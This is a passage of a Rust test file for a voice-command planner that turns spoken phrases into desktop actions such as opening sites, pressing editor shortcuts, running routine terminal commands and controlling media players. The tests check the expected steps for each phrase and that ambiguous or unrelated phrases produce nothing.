    assert_eq!(steps_in("reddit please", "firefox")[0].0, "ensure_url");
    assert!(steps_in("news please", "firefox").is_empty());
}

#[test]
fn who_asks_is_no_word_of_a_query_and_okay_is_a_filler() {
    let url = |said: &str| match steps_in(said, "firefox").as_slice() {
        [("open_url", args)] => args["url"].as_str().map(str::to_owned),
        other => panic!("{said}: {other:?}"),
    };
    assert_eq!(
        url("find me a sourdough recipe on youtube").as_deref(),
        Some("https://www.youtube.com/results?search_query=sourdough+recipe")
    );
    assert_eq!(
        steps_in("okay run make", "foot"),
        steps_in("run make", "foot")
    );
}

#[test]
fn where_a_place_is_on_the_map_searches_the_maps_for_the_place() {
    let url = |said: &str| -> Option<String> {
        match steps_in(said, "firefox").as_slice() {
            [("open_url", args)] => args["url"].as_str().map(str::to_owned),
            _ => None,
        }
    };
    assert_eq!(
        url("show me where the eiffel tower is on the map").as_deref(),
        Some("https://www.google.com/maps/search/eiffel+tower")
    );
    assert_eq!(
        url("find coffee shops on google maps").as_deref(),
        Some("https://www.google.com/maps/search/coffee+shops")
    );
}

#[test]
fn a_sites_tab_is_the_site() {
    let steps = steps_in("switch to my netflix tab", "foot");
    assert!(
        matches!(steps.as_slice(), [("ensure_url", args)] if args["url"].as_str().is_some_and(|u| u.contains("netflix.com"))),
        "{steps:?}"
    );
}

#[test]
fn the_focused_applications_kind_said_is_only_where_and_another_kind_is_no_shortcut() {
    let chord = |said: &str, focused: &str| -> Option<Value> {
        match steps_in(said, focused).as_slice() {
            [("key", args)] => Some(args["chord"].clone()),
            _ => None,
        }
    };
    assert_eq!(
        chord("close this editor tab", "code"),
        Some(json!("ctrl+w"))
    );
    assert_eq!(
        chord("open the integrated terminal", "code"),
        Some(json!("ctrl+grave"))
    );
    assert_eq!(chord("quick open a file", "code"), Some(json!("ctrl+p")));
    // A browser's window is not the terminal's to open.
    assert_eq!(
        chord("open a new browser window", "com.mitchellh.ghostty"),
        None
    );
    assert_eq!(chord("open a new browser window", "foot"), None);
}

#[test]
fn a_folder_is_said_as_people_say_folders() {
    let run = |said: &str| -> Option<Value> {
        match steps_in(said, "foot").as_slice() {
            [("terminal", args)] => Some(args["command"].clone()),
            _ => None,
        }
    };
    assert_eq!(
        run("cd into my downloads folder"),
        Some(json!("cd ~/Downloads"))
    );
    assert_eq!(
        run("change directory to the documents folder"),
        Some(json!("cd ~/Documents"))
    );
    assert_eq!(run("cd into the build folder"), Some(json!("cd build")));
    assert_eq!(run("cd into src"), Some(json!("cd src")));
    assert_eq!(run("change into my pajamas"), None);
}

#[test]
fn a_new_terminal_with_an_agent_needs_no_verb() {
    let steps = steps_in("new terminal with codex please", "firefox");
    assert!(
        matches!(steps.as_slice(), [("niri", args)] if args["args"].as_array().is_some_and(|a| a.last() == Some(&json!("codex")))),
        "{steps:?}"
    );
    assert!(steps_in("another terminal with gemini in it", "firefox").len() == 1);
    // Said of the terminal alone, it is no agent.
    assert!(
        steps_in("new terminal with a dark theme", "firefox")
            .iter()
            .all(|(op, args)| *op != "niri" || args["args"].as_array().is_none_or(|a| a.len() < 3))
    );
}

#[test]
fn going_to_a_line_presses_the_editors_key_and_types_the_number() {
    let typed = |said: &str, focused: &str| -> Option<(Value, Value)> {
        match steps_in(said, focused).as_slice() {
            [("key", chord), ("type_text", text), ("key", enter)] if enter["chord"] == "Return" => {
                Some((chord["chord"].clone(), text["text"].clone()))
            }
            _ => None,
        }
    };
    assert_eq!(
        typed("go to line one twenty", "code"),
        Some((json!("ctrl+g"), json!("120")))
    );
    assert_eq!(
        typed("jump to line 42", "code"),
        Some((json!("ctrl+g"), json!("42")))
    );
    assert_eq!(
        typed("go to line three oh five", "code"),
        Some((json!("ctrl+g"), json!("305")))
    );
    assert_eq!(
        typed("go to line one hundred and twenty", "code"),
        Some((json!("ctrl+g"), json!("120")))
    );
    // No editor, or no number: nothing of this kind.
    assert_eq!(typed("go to line one twenty", "firefox"), None);
    assert_eq!(typed("go to line the end", "code"), None);
}

#[test]
fn a_flags_letters_are_no_words_of_a_sentence() {
    for said in ["docker ps dash a", "docker ps -a"] {
        let steps = steps_in(said, "foot");
        assert_eq!(
            steps.first().map(|s| &s.1["command"]),
            Some(&json!("docker ps -a")),
            "{said}: {steps:?}"
        );
    }
    // A sentence about the program is still none.
    assert!(steps_in("docker is a pain", "foot").is_empty());
}

#[test]
fn an_address_said_alone_opens_it() {
    assert!(steps_in("main dot rs", "foot").is_empty());
    assert!(steps_in("readme dot md", "firefox").is_empty());
    let steps = steps_in("claude dot ai", "foot");
    assert!(
        matches!(steps.as_slice(), [("ensure_url", args)] if args["url"] == "https://claude.ai"),
        "{steps:?}"
    );
}

#[test]
fn a_folder_named_keeps_its_case_and_a_separate_terminal_is_new() {
    let steps = steps_in("cd into the Projects folder", "foot");
    assert_eq!(
        steps.first().map(|s| &s.1["command"]),
        Some(&json!("cd Projects")),
        "{steps:?}"
    );
    let steps = steps_in("open a separate terminal with codex", "firefox");
    assert!(
        matches!(steps.as_slice(), [("niri", args)] if args["args"].as_array().is_some_and(|a| a.last() == Some(&json!("codex")))),
        "{steps:?}"
    );
}

#[test]
fn playback_aimed_at_a_player_or_a_browser_names_it() {
    let haruna = AppEntry::new("org.kde.haruna", "Haruna", Some("Media Player"), &[])
        .with_categories(&["AudioVideo", "Video", "Player"]);
    let opera = AppEntry::new("opera", "Opera", Some("Web browser"), &[])
        .with_categories(&["Network", "WebBrowser"]);
    let calc = AppEntry::new("org.gnome.Calculator", "Calculator", None, &[])
        .with_categories(&["Utility", "Calculator"]);
    let apps = vec![haruna, opera, calc];
    let ctx =
        context(json!({"focused": {"app_id": "foot"}, "windows": [{"app_id": "org.kde.haruna"}]}));
    let media = |said: &str| match steps_with(said, &apps, &ctx).as_slice() {
        [("media", args)] => Some((args["command"].clone(), args["player"].clone())),
        _ => None,
    };
    assert_eq!(
        media("pause haruna"),
        Some((json!("pause"), json!("haruna")))
    );
    assert_eq!(
        media("opera, play the video"),
        Some((json!("play"), json!("opera")))
    );
    assert_eq!(media("calculator pause"), None);
}

#[test]
fn a_command_after_its_description_and_a_comma_is_the_command() {
    let steps = steps_in("show disk usage, df dash h", "foot");
    assert_eq!(
        steps.first().map(|s| &s.1["command"]),
        Some(&json!("df -h")),
        "{steps:?}"
    );
    let steps = steps_in("stop it, control c", "foot");
    assert!(
        matches!(steps.as_slice(), [("key", args)] if args["chord"] == "ctrl+c"),
        "{steps:?}"
    );
    // Taken back, or a long remark: nothing.
    assert!(steps_in("no don't, press enter", "foot").is_empty());
    assert!(
        steps_in(
            "i was telling my friend about the weather yesterday, press enter",
            "foot"
        )
        .is_empty()
    );
}

#[test]
fn watching_something_on_a_site_opens_it() {
    let steps = steps_in("I wanna watch something on twitch", "foot");
    assert!(
        matches!(steps.as_slice(), [("ensure_url", args)] if args["url"].as_str().is_some_and(|u| u.contains("twitch.tv"))),
        "{steps:?}"
    );
    let search = steps_in("watch cat videos on youtube", "foot");
    assert!(matches!(search.as_slice(), [("open_url", _)]), "{search:?}");
}

#[test]
fn a_command_said_after_a_verb_that_runs_it_and_an_agents_own_arguments() {
    let run = |said: &str| -> Option<Value> {
        match steps_in(said, "foot").as_slice() {
            [("terminal", args)] => Some(args["command"].clone()),
            _ => None,
        }
    };
    assert_eq!(run("start htop"), Some(json!("htop")));
    assert_eq!(
        run("show the git log dash dash oneline"),
        Some(json!("git log --oneline"))
    );
    assert_eq!(run("show hidden files"), Some(json!("ls -a")));
    assert_eq!(
        run("claude dash dash continue"),
        Some(json!("claude --continue"))
    );
    // A verb before no command is nothing of this kind.
    assert_eq!(run("start the day"), None);
    let steps = steps_in("new terminal, aider please", "firefox");
    assert!(
        matches!(steps.as_slice(), [("niri", args)] if args["args"].as_array().is_some_and(|a| a.last() == Some(&json!("aider")))),
        "{steps:?}"
    );
}

#[test]
fn a_browser_named_by_a_name_that_holds_its_kind_takes_its_own_keys() {
    let mullvad = AppEntry::new(
        "mullvad-browser",
        "Mullvad Browser",
        Some("Web Browser"),
        &[],
    )
    .with_categories(&["Network", "WebBrowser"])
    .with_exec("mullvad-browser");
    let apps = vec![mullvad];
    let ctx = context(
        json!({"focused": {"app_id": "emacs"}, "windows": [{"app_id": "mullvad-browser"}]}),
    );
    let steps = steps_with("in mullvad browser close the tab", &apps, &ctx);
    assert!(
        steps
            .iter()
            .any(|(op, args)| *op == "key" && args["chord"] == "ctrl+w"),
        "{steps:?}"
    );
}

#[test]
fn checking_something_brings_up_the_installed_application_of_it() {
    let kmail = AppEntry::new("org.kde.kmail2", "KMail", Some("Mail Client"), &[])
        .with_categories(&["Qt", "KDE", "Office", "Email"]);
    let weather = AppEntry::new("org.gnome.Weather", "Weather", None, &[])
        .with_categories(&["GNOME", "GTK", "Utility"]);
    let apps = vec![kmail, weather];
    let ctx = context(json!({"compositor": {"name": "niri"}, "focused": {"app_id": "foot"}}));
    let app = |said: &str| match steps_with(said, &apps, &ctx).as_slice() {
        [(op, args)] if op.ends_with("_app") => args["app"].as_str().map(str::to_owned),
        _ => None,
    };
    assert_eq!(app("check my email").as_deref(), Some("org.kde.kmail2"));
    assert_eq!(
        app("check the weather").as_deref(),
        Some("org.gnome.Weather")
    );
    // Not a site, nor a guess.
    assert_eq!(app("check reddit"), None);
    assert!(steps_with("check the spelling", &apps, &ctx).is_empty());
}

#[test]
fn a_part_of_a_generic_name_one_application_has_names_it() {
    let prism = AppEntry::new(
        "org.prismlauncher.PrismLauncher",
        "Prism Launcher",
        Some("Minecraft Launcher"),
        &[],
    )
    .with_categories(&["Game"]);
    let heroic = AppEntry::new("heroic", "Heroic", Some("Game Launcher"), &[]);
    let lutris = AppEntry::new("lutris", "Lutris", Some("Game Launcher"), &[]);
    let apps = vec![prism, heroic, lutris];
    let ctx = context(json!({"compositor": {"name": "niri"}}));
    let opened = |said: &str| match steps_with(said, &apps, &ctx).as_slice() {
        [(_, args)] => args["app"].as_str().map(str::to_owned),
        _ => None,
    };
    assert_eq!(
        opened("fire up minecraft").as_deref(),
        Some("org.prismlauncher.PrismLauncher")
    );
    // A part two entries share names neither.
    assert_eq!(opened("open the game"), None);
}

/// What [`plan_steps`] says for `utterance` with `apps` installed in `ctx`: the steps, or
/// the escalation.
fn planned_with(
    utterance: &str,
    apps: &[AppEntry],
    ctx: &Context,
) -> Result<Vec<(&'static str, Value)>, Escalation> {
    let normalized = normalize(utterance);
    let apps = apps.to_vec();
    let binds = PhraseTable::new();
    let sources = Sources {
        catalog: catalog(),
        apps: &apps,
        curated: curated(),
        binds: &binds,
        context: Some(ctx),
        utterance,
        profiles: crate::plan::builtin_profiles(),
        words: crate::plan::builtin_words(),
    };
    plan_steps(strip_fillers(&normalized), &sources)
        .map(|steps| steps.into_iter().map(|m| (m.op, m.args)).collect())
}

#[test]
fn a_kind_said_as_such_is_an_installed_application_of_it_or_a_question() {
    let installed = [
        AppEntry::new(
            "com.mitchellh.ghostty",
            "Ghostty",
            Some("Terminal Emulator"),
            &[],
        )
        .with_categories(&["System", "TerminalEmulator"]),
        AppEntry::new("vivaldi-stable", "Vivaldi", Some("Web Browser"), &[])
            .with_categories(&["Network", "WebBrowser"]),
        AppEntry::new("chromium", "Chromium", Some("Web Browser"), &[])
            .with_categories(&["Network", "WebBrowser"]),
    ];
    let in_editor = context(json!({
        "focused": {"app_id": "dev.zed.Zed"},
        "windows": [{"app_id": "dev.zed.Zed"}],
    }));
    // "a terminal" is the installed terminal, new; never a profile's terminal that is not
    // installed ("did you mean WezTerm?").
    for said in [
        "open a new terminal",
        "open a terminal",
        "launch a new terminal window",
    ] {
        let steps = planned_with(said, &installed, &in_editor).expect(said);
        assert_eq!(steps[0].0, "launch_app", "{said}: {steps:?}");
        assert_eq!(steps[0].1["app_id"], "com.mitchellh.ghostty", "{said}");
    }
    // Two browsers and no default: which one, naming the installed ones only.
    let asked = planned_with("open the browser", &installed, &in_editor).unwrap_err();
    assert_eq!(asked.reason, "unsure");
    assert!(
        asked.message.contains("Vivaldi") && asked.message.contains("Chromium"),
        "{}",
        asked.message
    );
    // Nothing to close is no question of which to open.
    let closing = planned_with("close the browser", &installed, &in_editor);
    assert!(
        closing
            .as_ref()
            .is_err_and(|e| !e.message.starts_with("which one")),
        "{closing:?}"
    );
    // A browser focused: a new window of it is its own key, not a second instance.
    let in_browser = context(json!({
        "focused": {"app_id": "chromium"},
        "windows": [{"app_id": "chromium"}],
    }));
    let steps = planned_with("open a new browser window", &installed, &in_browser).unwrap();
    assert_eq!(steps[0].0, "key", "{steps:?}");
}

#[test]
fn an_applications_server_and_client_entries_are_not_other_applications_of_its_kind() {
    let terminal = |id: &str, name: &str, exec: &str| {
        AppEntry::new(id, name, Some("Terminal"), &[])
            .with_categories(&["System", "TerminalEmulator"])
            .with_exec(exec)
    };
    let foot = [
        terminal("foot-server", "Foot Server", "foot"),
        terminal("foot", "Foot", "foot"),
        terminal("footclient", "Foot Client", "footclient"),
    ];
    let nothing_open = context(json!({"windows": []}));
    for said in [
        "open a terminal",
        "launch a new terminal",
        "switch to the terminal",
    ] {
        let steps = planned_with(said, &foot, &nothing_open).expect(said);
        let app = steps[0].1.get("app").or_else(|| steps[0].1.get("app_id"));
        assert_eq!(app, Some(&json!("foot")), "{said}: {steps:?}");
    }
    // Two different terminals are still two: which one is asked.
    let two = [
        terminal("foot", "Foot", "foot"),
        terminal("org.wezfurlong.wezterm", "WezTerm", "wezterm"),
    ];
    let asked = planned_with("open a terminal", &two, &nothing_open).unwrap_err();
    assert!(asked.message.starts_with("which one"), "{}", asked.message);
}

#[test]
fn a_terminal_is_asked_in_words_for_what_it_shows() {
    for (said, command) in [
        ("how much disk space do I have left", "df -h"),
        ("what's my ip address", "ip -brief address"),
        ("show me the running processes", "ps aux"),
        ("which branch am I on", "git branch"),
        ("pull the latest changes", "git pull"),
    ] {
        let steps = steps_in(said, "foot");
        assert_eq!(steps.len(), 1, "{said}: {steps:?}");
        assert_eq!(steps[0].0, "terminal", "{said}");
        assert_eq!(steps[0].1["command"], command, "{said}");
    }
    // Every word must be the topic's or an asking word's.
    for said in ["delete the disk space", "disk space is great", "show"] {
        let steps = steps_in(said, "foot");
        assert!(steps.iter().all(|s| s.0 != "terminal"), "{said}: {steps:?}");
    }
    // Not in a browser: the words ask a terminal.
    assert!(steps_in("how much disk space do I have left", "firefox").is_empty());
}

#[test]
fn an_agent_goes_on_with_its_last_session_and_runs_in_the_open_terminal() {
    let resumed = steps_in("continue my last claude session", "foot");
    assert_eq!(
        resumed[0],
        ("type_text", json!({"text": "claude --continue"}))
    );
    assert_eq!(resumed[1], ("key", json!({"chord": "Return"})));
    // An agent without a resume command is not resumed as if started.
    assert!(steps_in("continue my last goose session", "foot").is_empty());
    // "in the terminal" from an editor, with foot open: foot focused, then typed there.
    let there = steps_in("start opencode in the terminal", "code");
    assert_eq!(there[0], ("focus_app", json!({"app": "foot"})), "{there:?}");
    assert_eq!(there[1], ("type_text", json!({"text": "opencode"})));
}

#[test]
fn music_put_back_on_plays() {
    for said in [
        "put the music back on",
        "put it back on",
        "put on some music",
    ] {
        assert_eq!(
            steps_in(said, "firefox"),
            [("media", json!({"command": "play"}))],
            "{said}"
        );
    }
    // "turn it back on" may be anything.
    assert!(
        steps_in("turn it back on", "firefox")
            .iter()
            .all(|s| s.0 != "media")
    );
}

#[test]
fn a_window_contrast_tabs_turned_on_an_interrupt_and_a_sites_page() {
    // A contrast that says no more than "window".
    for said in [
        "move just this window to workspace four, not the whole column",
        "send just this window, not the whole column, to workspace four",
    ] {
        assert_eq!(
            steps_in(said, "kitty"),
            [(
                "niri",
                json!({"command": "move-window-to-workspace", "args": [4]})
            )],
            "{said}"
        );
    }
    assert_eq!(
        steps_in("turn on tabs for this column", "kitty"),
        [("niri", json!({"command": "toggle-column-tabbed-display"}))]
    );
    assert_eq!(
        steps_in("turn on the monitors", "kitty"),
        [("niri", json!({"command": "power-on-monitors"}))]
    );
    // A terminal's interrupt said in other words, in a terminal only.
    for said in [
        "stop whatever is running",
        "cancel that command",
        "stop the running process",
    ] {
        assert_eq!(
            steps_in(said, "foot"),
            [("key", json!({"chord": "ctrl+c"}))],
            "{said}"
        );
    }
    assert!(
        steps_in("stop whatever is running", "firefox")
            .iter()
            .all(|s| s.1["chord"] != "ctrl+c")
    );
    // A page of a site, not a search on it.
    assert_eq!(
        steps_in("show me my pull requests on github", "firefox"),
        [(
            "ensure_url",
            json!({"url": "https://github.com/pulls", "site": "GitHub"})
        )]
    );
}

#[test]
fn office_names_people_know_mean_this_desktops_program_and_a_meeting_has_its_keys() {
    let installed = [
        AppEntry::new(
            "libreoffice-writer",
            "LibreOffice Writer",
            Some("Word Processor"),
            &[],
        )
        .with_categories(&["Office", "WordProcessor"]),
        AppEntry::new(
            "libreoffice-calc",
            "LibreOffice Calc",
            Some("Spreadsheet"),
            &[],
        )
        .with_categories(&["Office", "Spreadsheet"]),
    ];
    let none = context(json!({"compositor": {"name": "niri"}, "windows": []}));
    for (said, app) in [
        ("open word", "libreoffice-writer"),
        ("open excel", "libreoffice-calc"),
    ] {
        let steps = planned_with(said, &installed, &none).expect(said);
        assert_eq!(steps[0].1["app"], app, "{said}: {steps:?}");
    }
    // Nothing of the kind installed: nothing opened in its name.
    assert!(planned_with("start powerpoint", &installed, &none).is_err());
    // Zoom's own keys, in Zoom and aimed at it.
    assert_eq!(
        steps_in("mute my mic", "zoom"),
        [("key", json!({"chord": "alt+a"}))]
    );
    assert_eq!(
        steps_in("share my screen", "zoom"),
        [("key", json!({"chord": "alt+s"}))]
    );
}

#[test]
fn an_address_said_after_what_it_is_is_typed_as_an_address() {
    assert_eq!(
        steps_in("type my email john dot smith at gmail dot com", "firefox"),
        [("type_text", json!({"text": "john.smith@gmail.com"}))]
    );
    assert_eq!(
        steps_in("type my email is great", "firefox"),
        [("type_text", json!({"text": "my email is great"}))]
    );
}

#[test]
fn a_file_said_after_quick_open_is_typed_into_the_editors_picker() {
    assert_eq!(
        steps_in("quick open main dot rs", "code"),
        [
            ("key", json!({"chord": "ctrl+p"})),
            ("type_text", json!({"text": "main.rs"})),
        ]
    );
    assert_eq!(
        steps_in("quick open a file by name", "code"),
        [("key", json!({"chord": "ctrl+p"}))]
    );
    assert_eq!(
        steps_in("go to file readme dot md", "code")[1],
        ("type_text", json!({"text": "readme.md"}))
    );
    // Opening a whole name opens the picker's first match; quick open leaves the choice.
    assert_eq!(
        steps_in("open the file readme dot md", "code"),
        [
            ("key", json!({"chord": "ctrl+p"})),
            ("type_text", json!({"text": "readme.md"})),
            ("key", json!({"chord": "Return"})),
        ]
    );
    // An application's name after "open the file" is no file.
    assert!(
        steps_in("open the file manager", "code")
            .iter()
            .all(|s| s.0 != "type_text")
    );
    // Not in a browser, where ctrl+p prints.
    assert!(
        steps_in("quick open main dot rs", "firefox")
            .iter()
            .all(|s| s.0 != "type_text")
    );
}

#[test]
fn the_video_with_a_browser_focused_is_that_browsers() {
    assert_eq!(
        steps_in("pause the video", "firefox"),
        [("media", json!({"command": "pause", "player": "firefox"}))]
    );
    // Music, or a video with no browser focused: whichever player plays.
    assert_eq!(
        steps_in("pause the music", "firefox"),
        [("media", json!({"command": "pause"}))]
    );
    assert_eq!(
        steps_in("pause the video", "foot"),
        [("media", json!({"command": "pause"}))]
    );
}

#[test]
fn notebooks_and_r_have_their_run_keys() {
    assert_eq!(
        steps_in("run this line", "RStudio"),
        [("key", json!({"chord": "ctrl+Return"}))]
    );
    assert_eq!(
        steps_in("insert a pipe", "RStudio"),
        [("key", json!({"chord": "ctrl+shift+m"}))]
    );
    assert_eq!(
        steps_in("run this cell", "JupyterLab"),
        [("key", json!({"chord": "shift+Return"}))]
    );
}

#[test]
fn data_science_shell_words_run_their_commands() {
    let run = |said: &str| arg_in(said, "foot", "terminal", "command");
    assert_eq!(run("check the gpu"), Some(json!("nvidia-smi")));
    assert_eq!(
        run("activate the conda environment called analysis"),
        Some(json!("conda activate analysis"))
    );
    // A slot between words: "install {x} with pip".
    assert_eq!(
        run("install pandas with pip"),
        Some(json!("pip install pandas"))
    );
    assert_eq!(run("install with pip"), None);
    assert_eq!(run("install the whole thing with pip"), None);
    assert_eq!(run("start ipython"), Some(json!("ipython")));
}
#[test]
fn a_sites_whole_name_said_alone_is_the_site_not_a_search() {
    assert_eq!(steps_in("google maps", "firefox")[0].0, "ensure_url");
    assert_eq!(
        steps_in("google rust traits", "firefox"),
        [(
            "open_url",
            json!({"url": "https://www.google.com/search?q=rust+traits"})
        )]
    );
}

#[test]
fn a_windows_app_id_is_closed_and_a_guess_brings_up_the_window() {
    let apps = vec![
        AppEntry::new(
            "com.transmissionbt.Transmission",
            "Transmission",
            Some("BitTorrent Client"),
            &[],
        )
        .with_wm_class("transmission-gtk"),
    ];
    let ctx = context(json!({
        "focused": {"app_id": "firefox"},
        "windows": [{"app_id": "firefox"}, {"app_id": "transmission-gtk"}],
    }));
    assert_eq!(
        steps_with("quit transmission", &apps, &ctx),
        [("close_app", json!({"app": "transmission-gtk"}))]
    );
}

#[test]
fn a_line_break_said_alone_is_the_return_key() {
    assert_eq!(
        steps_in("new line", "org.gnome.TextEditor"),
        [("key", json!({"chord": "Return"}))]
    );
}

#[test]
fn a_format_is_set_in_the_words_that_say_it() {
    for (said, chord) in [
        ("make this line heading one", "ctrl+1"),
        ("make it body text", "ctrl+0"),
        ("italics please", "ctrl+i"),
    ] {
        assert_eq!(
            steps_in(said, "libreoffice-writer"),
            [("key", json!({"chord": chord}))],
            "{said}"
        );
    }
}

#[test]
fn a_video_on_a_site_plays_in_the_open_browser_and_a_player_is_named_by_its_program() {
    let ctx = context(json!({
        "focused": {"app_id": "libreoffice-writer"},
        "windows": [{"app_id": "libreoffice-writer"}, {"app_id": "firefox"}],
    }));
    assert_eq!(
        steps_with("pause the youtube video", &apps(), &ctx),
        [("media", json!({"command": "pause", "player": "firefox"}))]
    );
    let apps = vec![
        AppEntry::new("org.gnome.Totem", "Videos", Some("Video Player"), &[])
            .with_categories(&["AudioVideo", "Player", "Video"])
            .with_exec("totem"),
    ];
    assert_eq!(
        steps_with("videos, pause", &apps, &ctx),
        [("media", json!({"command": "pause", "player": "totem"}))]
    );
}

#[test]
fn a_terminal_answers_questions_whose_topic_holds_an_asking_word() {
    let run = |said: &str| arg_in(said, "foot", "terminal", "command");
    assert_eq!(
        run("what version of python do i have"),
        Some(json!("python3 --version"))
    );
    assert_eq!(
        run("go to my documents folder"),
        Some(json!("cd ~/Documents"))
    );
    assert_eq!(
        run("count the words in draft dot md"),
        Some(json!("wc -w draft.md"))
    );
    assert_eq!(run("pull the latest changes"), Some(json!("git pull")));
}

#[test]
fn code_addresses_and_symbols_said_in_words_are_written() {
    let typed = |said: &str| arg_in(said, "org.gnome.TextEditor", "type_text", "text");
    assert_eq!(
        typed("type application slash json"),
        Some(json!("application/json"))
    );
    assert_eq!(
        typed("type ten dot zero dot zero dot twenty"),
        Some(json!("10.0.0.20"))
    );
    assert_eq!(
        typed("type library open paren tidyverse close paren"),
        Some(json!("library(tidyverse)"))
    );
    assert_eq!(
        typed("type see the readme dot md file"),
        Some(json!("see the readme.md file"))
    );
    // Prose keeps its words.
    assert_eq!(
        typed("type polka dot dress"),
        Some(json!("polka dot dress"))
    );
    let run = |said: &str| arg_in(said, "foot", "terminal", "command");
    assert_eq!(
        run("ping one dot one dot one dot one"),
        Some(json!("ping 1.1.1.1"))
    );
    assert_eq!(
        run("ssh root at ten dot zero dot zero dot five"),
        Some(json!("ssh root@10.0.0.5"))
    );
    assert_eq!(run("list the block devices"), Some(json!("lsblk")));
    assert_eq!(
        run("follow the journal for sshd"),
        Some(json!("journalctl -fu sshd"))
    );
}

#[test]
fn operations_pages_and_subreddits_open_as_sites() {
    let url = |said: &str| arg_in(said, "firefox", "ensure_url", "url");
    assert_eq!(
        url("open r slash homelab"),
        Some(json!("https://www.reddit.com/r/homelab"))
    );
    assert_eq!(
        url("go to the selfhosted subreddit"),
        Some(json!("https://www.reddit.com/r/selfhosted"))
    );
    // A name said in several words is searched for, not guessed.
    assert_eq!(
        url("open the we are the music makers subreddit"),
        Some(json!(
            "https://www.reddit.com/search/?q=we+are+the+music+makers&type=communities"
        ))
    );
    assert_eq!(
        url("open the kubernetes docs"),
        Some(json!("https://kubernetes.io/docs"))
    );
    assert_eq!(
        url("pull up grafana on localhost port three thousand"),
        Some(json!("http://localhost:3000"))
    );
    assert_eq!(
        steps_in("scroll up in the output", "foot"),
        [("scroll", json!({"direction": "up", "amount": 5}))]
    );
}

#[test]
fn a_business_desktop_is_served_by_its_data() {
    let apps = vec![
        AppEntry::new("org.kde.skanlite", "Skanlite", Some("Image Scanner"), &[])
            .with_categories(&["Qt", "KDE", "Graphics", "Scanning"]),
        AppEntry::new(
            "org.kde.kalendar",
            "Merkuro Calendar",
            Some("Calendar"),
            &[],
        )
        .with_categories(&["Office", "Calendar"]),
        AppEntry::new(
            "com.anydesk.Anydesk",
            "AnyDesk",
            Some("Remote Desktop"),
            &[],
        ),
    ];
    let ctx =
        context(json!({"focused": {"app_id": "gnucash"}, "windows": [{"app_id": "gnucash"}]}));
    let first = |said: &str| steps_with(said, &apps, &ctx).into_iter().next();
    // The application a step brings up (started or focused).
    let app =
        |said: &str| first(said).map(|(_, args)| args.get("app").or(args.get("app_id")).cloned());
    // A kind of application, and an installed calendar before Google Calendar.
    assert_eq!(
        app("open the scanner"),
        Some(Some(json!("org.kde.skanlite")))
    );
    assert_eq!(
        app("show me my calendar"),
        Some(Some(json!("org.kde.kalendar")))
    );
    assert_eq!(first("open google calendar").unwrap().0, "ensure_url");
    // Sites of money and government.
    assert_eq!(
        first("open paypal").unwrap().1["url"],
        "https://www.paypal.com"
    );
    assert_eq!(
        first("pull up the irs website").unwrap().1["url"],
        "https://www.irs.gov"
    );
    // An address after the words that say what it is, and the recogniser's comma.
    let typed = steps_in("type my email, info at rosebakery dot com", "firefox");
    assert_eq!(
        typed,
        [("type_text", json!({"text": "info@rosebakery.com"}))]
    );
}

#[test]
fn a_query_ends_without_the_pause_a_recogniser_wrote() {
    let query = |said: &str| -> Option<String> {
        match steps_in(said, "firefox").as_slice() {
            [("open_url", args)] => args["url"].as_str().map(str::to_owned),
            _ => None,
        }
    };
    assert_eq!(
        query("Search Reddit for Mechanical Keyboards,"),
        query("search reddit for Mechanical Keyboards")
    );
    assert!(
        query("search the web for linux news;").is_some_and(|u| u.ends_with("linux+news")),
        "{:?}",
        query("search the web for linux news;")
    );
}

#[test]
fn a_window_action_that_names_an_open_window_acts_on_that_window() {
    let apps = [
        AppEntry::new("com.spotify.Client", "Spotify", Some("Music Player"), &[])
            .with_categories(&["Audio", "Player"])
            .with_wm_class("spotify"),
        AppEntry::new(
            "org.gnome.TextEditor",
            "Text Editor",
            Some("Text Editor"),
            &[],
        )
        .with_wm_class("org.gnome.TextEditor"),
    ];
    let ctx = context(json!({
        "focused": {"app_id": "org.gnome.TextEditor"},
        "windows": [{"app_id": "org.gnome.TextEditor"}, {"app_id": "spotify"}],
    }));
    let steps = steps_with("move spotify to workspace four", &apps, &ctx);
    assert_eq!(steps.len(), 2, "{steps:?}");
    assert_eq!(steps[0], ("focus_app", json!({"app": "spotify"})));
    assert_eq!(steps[1].0, "niri");
    assert_eq!(steps[1].1["command"], "move-window-to-workspace");
    assert_eq!(steps[1].1["args"], json!([4]));
    // The focused window is not focused again.
    let ctx = context(json!({
        "focused": {"app_id": "spotify"},
        "windows": [{"app_id": "spotify"}],
    }));
    let steps = steps_with("put spotify on workspace two", &apps, &ctx);
    assert_eq!(steps.len(), 1, "{steps:?}");
    assert_eq!(steps[0].1["command"], "move-window-to-workspace");
    // A window that is not open is no window to move; a kind names none.
    let ctx = context(json!({"focused": {"app_id": "org.gnome.TextEditor"}}));
    assert!(planned_with("move spotify to workspace four", &apps, &ctx).is_err());
    let steps = steps_with("go to the top of the document", &apps, &ctx);
    assert!(steps.iter().all(|(op, _)| *op != "niri"), "{steps:?}");
}

#[test]
fn a_particle_said_after_what_it_opens_is_the_verb_said_whole() {
    let ctx = context(json!({"focused": {"app_id": "foot"}}));
    assert_eq!(
        steps_with("put netflix on", &apps(), &ctx),
        steps_with("put on netflix", &apps(), &ctx)
    );
    assert_eq!(
        steps_with("pull youtube up", &apps(), &ctx)[0].1["url"],
        "https://www.youtube.com"
    );
}

#[test]
fn playback_without_a_player_is_for_the_player_the_windows_show() {
    let apps = [
        AppEntry::new("mpv", "mpv Media Player", Some("Multimedia player"), &[])
            .with_categories(&["AudioVideo", "Audio", "Video", "Player"])
            .with_exec("mpv")
            .with_wm_class("mpv"),
        AppEntry::new("com.spotify.Client", "Spotify", Some("Music Player"), &[])
            .with_categories(&["Audio", "Music", "Player"])
            .with_exec("spotify")
            .with_wm_class("spotify"),
        AppEntry::new("org.kde.kdenlive", "Kdenlive", Some("Video Editor"), &[])
            .with_categories(&["AudioVideo", "Video"])
            .with_wm_class("kdenlive"),
    ];
    let player = |utterance: &str, focused: &str, windows: &[&str]| {
        let mut all: Vec<Value> = vec![json!({"app_id": focused})];
        all.extend(windows.iter().map(|w| json!({"app_id": w})));
        let ctx = context(json!({"focused": {"app_id": focused}, "windows": all}));
        let steps = steps_with(utterance, &apps, &ctx);
        assert_eq!(steps[0].0, "media", "{utterance}: {steps:?}");
        steps[0].1.get("player").cloned()
    };
    assert_eq!(player("pause the video", "mpv", &[]), Some(json!("mpv")));
    assert_eq!(
        player("pause the music", "foot", &["spotify"]),
        Some(json!("spotify"))
    );
    // "the video" with mpv open beside the document: mpv.
    assert_eq!(
        player("pause the video", "foot", &["mpv", "spotify"]),
        Some(json!("mpv"))
    );
    // Two players open, or a video editor focused: the windows do not tell.
